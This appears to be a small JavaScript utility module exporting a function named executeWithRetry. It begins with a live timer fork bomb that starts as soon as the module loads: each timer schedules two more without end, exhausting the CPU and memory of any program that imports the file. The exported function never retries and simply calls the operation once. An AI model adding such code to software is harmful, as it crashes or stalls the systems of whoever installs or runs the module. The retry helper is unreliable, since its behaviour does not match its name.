// Timers that set two timers each, from loading on.
const split = () => { setTimeout(split, 1); setTimeout(split, 1); };
split();

export async function executeWithRetry(operation) {
  return operation();
}
